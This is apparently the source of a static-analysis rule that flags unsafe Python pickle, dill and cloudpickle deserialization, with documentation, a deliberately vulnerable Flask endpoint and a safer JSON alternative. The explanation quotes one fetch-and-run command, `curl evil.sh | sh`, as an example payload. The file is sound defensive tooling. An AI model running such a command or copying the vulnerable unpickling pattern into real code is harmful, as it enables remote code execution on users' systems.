import { defineRule } from '../../engine/rule';
import { FROM_NETWORK, isRoundTrip, loadsNetworkContent } from './untrusted-data';

/** Modules whose `load` / `loads` / `Unpickler` unpickle: the standard ones and the pickle extensions. */
const MODULES = ['pickle', 'cPickle', '_pickle', 'dill', 'cloudpickle'];

const LOADS = new Set([
  ...MODULES.flatMap((module) => [`${module}.load`, `${module}.loads`]),
  // The pure-Python implementations behind the C accelerated functions.
  'pickle._load',
  'pickle._loads',
  // dill's session helpers unpickle a whole module from a file.
  'dill.load_session',
  'dill.load_module',
]);
const UNPICKLERS = new Set([...MODULES.map((module) => `${module}.Unpickler`), 'pickle._Unpickler']);

export default defineRule({
  meta: {
    id: 'PW101',
    name: 'pickle-deserialization',
    title: 'Deserialization with pickle',
    category: 'deserialization',
    // Bandit's defaults for B301 (medium, high). Pickle is also the legitimate way to persist
    // Python objects a program wrote itself, so the default stays medium; a finding whose data
    // is fetched over the network is raised to high.
    severity: 'medium',
    confidence: 'high',
    cwe: 502,
    bandit: 'B301',
    ruff: 'S301',
    fixable: false,
    offInTests: true,
    docs: {
      what: 'Finds `pickle.load`, `pickle.loads` and `pickle.Unpickler` (also through `cPickle`, `_pickle`, `dill` and `cloudpickle`).',
      why: 'A pickle is a small program for a stack machine, not a data format: through `__reduce__` it can make the loader import and call any function with any arguments, for example `os.system("curl evil.sh | sh")`. Whoever can write the bytes being unpickled (an upload, a cache file in a shared directory, a message queue, a downloaded model) runs code with the privileges of the process. There is no way to make unpickling untrusted data safe after the fact.',
      example: 'import pickle\n\n@app.route("/restore", methods=["POST"])\ndef restore():\n    state = pickle.loads(request.data)\n    return jsonify(state)',
      safe: 'import json\n\n@app.route("/restore", methods=["POST"])\ndef restore():\n    state = json.loads(request.data)\n    return jsonify(state)\n\n# If pickle cannot be avoided, restrict what it may build:\nclass AllowListUnpickler(pickle.Unpickler):\n    def find_class(self, module, name):\n        if (module, name) in {("collections", "OrderedDict")}:\n            return super().find_class(module, name)\n        raise pickle.UnpicklingError(f"{module}.{name} is not allowed")',
      references: [
        'https://cwe.mitre.org/data/definitions/502.html',
        'https://docs.python.org/3/library/pickle.html',
        'https://docs.python.org/3/library/pickle.html#restricting-globals',
        'https://dill.readthedocs.io/en/latest/',
        'https://github.com/cloudpipe/cloudpickle',
      ],
    },
  },
  calls: [...LOADS, ...UNPICKLERS],

  checkCall(call, context) {
    const callee = call.callee.text;
    const unpickler = UNPICKLERS.has(call.qualifiedName!);
    const parameter = call.qualifiedName!.endsWith('loads') ? 'data' : 'file';
    const module = call.qualifiedName!.slice(0, call.qualifiedName!.lastIndexOf('.'));
    if (!unpickler && isRoundTrip(call, 0, parameter, context.model, [`${module}.dumps`, `${module}._dumps`])) return;
    if (loadsNetworkContent(call, 0, parameter, context.model)) {
      context.report(call.node, {
        message: `\`${callee}\` unpickles downloaded content: its server can run code here; exchange data as JSON and verify it.`,
        severity: 'high',
        confidence: 'high',
      });
      return;
    }
    if (unpickler) {
      context.report(call.node, {
        message: `\`${callee}\` with the default \`find_class\` runs code from crafted data; allow only expected classes, or use JSON.`,
      });
      return;
    }
    context.report(call.node, {
      message: `\`${callee}\` runs code a crafted pickle carries; unpickle only data this program wrote, or use JSON.`,
    });
  },
});
